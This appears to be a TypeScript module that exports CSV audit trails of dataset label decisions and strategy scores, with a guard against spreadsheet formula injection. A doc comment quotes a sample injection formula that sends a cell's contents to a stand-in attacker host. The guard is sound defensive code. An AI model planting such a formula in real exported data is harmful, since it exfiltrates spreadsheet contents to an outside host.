import { STRATEGY_NAMES } from '../../../shared/strategies';
import type { Db } from '../store/database';
import type { ChangePlan } from './change-plan';

export type CsvValue = string | number | boolean | null | undefined;

/**
 * Text that a spreadsheet would run as a formula (OWASP "CSV injection"): a note or a label
 * such as `=HYPERLINK("http://evil.example/?"&A1, "open")` starts with one of these.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One RFC 4180 field, the one cell function every CSV Winnow writes goes through. Text that
 * starts like a formula gets a leading apostrophe, which spreadsheets show as text and never
 * evaluate (numbers are written as numbers: -0.5 stays a number). Quoted when it holds a
 * quote, comma or line break, or starts or ends with whitespace (spreadsheet programs trim
 * unquoted fields); inner quotes are doubled.
 */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  let text = typeof value === 'string' ? value : String(value);
  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, CRLF-terminated as RFC 4180 asks. */
export function csvRow(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}

export const STRATEGY_COLUMNS = STRATEGY_NAMES;

export const DECISION_CSV_HEADER = [
  'id',
  'split',
  'source',
  'action',
  'applied',
  'old_label',
  'new_label',
  'annotator',
  'time',
  'note',
  'run',
  'scores_run',
  ...STRATEGY_COLUMNS.map((s) => `score_${s}`),
] as const;

/** Scores per example for one run's flags on one split, loaded once per run. */
function scoreLookup(db: Db, splitId: number) {
  const byRun = new Map<number, Map<number, Record<string, number>>>();
  const statement = db.prepare('SELECT f.example_id AS exampleId, f.strategy, f.score FROM flags f JOIN examples e ON e.id = f.example_id WHERE f.run_id = ? AND e.split_id = ?');
  return (runId: number, exampleId: number): Record<string, number> | undefined => {
    let scores = byRun.get(runId);
    if (!scores) {
      scores = new Map();
      for (const row of statement.all(runId, splitId) as { exampleId: number; strategy: string; score: number }[]) {
        const entry = scores.get(row.exampleId) ?? {};
        entry[row.strategy] = row.score;
        scores.set(row.exampleId, entry);
      }
      byRun.set(runId, scores);
    }
    return scores.get(exampleId);
  };
}

/**
 * The audit trail of an export, one CSV record per example that a human decided (the decision
 * the resolve policy settled on; `annotator` names everyone who made it) or the automatic mode flagged: the human rows in decision order, then the automatic ones in file
 * order. `applied` says whether this export acted on the row. Scores come from the run that
 * suggested the decision, else from the export's run (`scores_run` names which).
 */
export function* decisionCsvLines(db: Db, input: { split: string; splitId: number; plan: ChangePlan; runId: number | null; runCreatedAt: string | null; strategy: string | null; apply: string }): Generator<string> {
  const scores = scoreLookup(db, input.splitId);
  const scoreCells = (runId: number | null, exampleId: number) => {
    const found = runId === null ? undefined : scores(runId, exampleId);
    return STRATEGY_COLUMNS.map((s) => found?.[s] ?? null);
  };
  yield csvRow(DECISION_CSV_HEADER);
  for (const d of input.plan.decisions) {
    const applied = input.plan.changes.get(d.exampleId)?.source === 'human' || (d.action === 'keep' && !input.plan.changes.has(d.exampleId));
    const scoresRun = d.run ?? input.runId;
    // One annotator's decision, or one they all agree on, is plainly human; a majority or an adjudication says so.
    const source = d.resolution === 'majority' || d.resolution === 'adjudication' ? `human:${d.resolution}` : 'human';
    yield csvRow([d.id, input.split, source, d.action, applied ? 'yes' : 'no', d.oldLabel, d.newLabel, d.annotator, d.time, d.note, d.run, scoresRun, ...scoreCells(scoresRun, d.exampleId)]);
  }
  const decided = new Set(input.plan.decisions.map((d) => d.exampleId));
  const autoAction = input.apply === 'eliminate' ? 'eliminate' : 'reannotate';
  for (const f of input.plan.flags) {
    const change = input.plan.changes.get(f.exampleId);
    const applied = change?.source === 'auto';
    const why = applied ? null : change || decided.has(f.exampleId) ? 'a human decision overrides this flag' : 'the suggestion is the given label';
    yield csvRow([
      f.id,
      input.split,
      `auto:${input.strategy ?? ''}`,
      autoAction,
      applied ? 'yes' : 'no',
      f.given,
      autoAction === 'reannotate' ? f.suggested : null,
      `winnow:${input.strategy ?? ''}`,
      input.runCreatedAt,
      why,
      input.runId,
      input.runId,
      ...scoreCells(input.runId, f.exampleId),
    ]);
  }
}
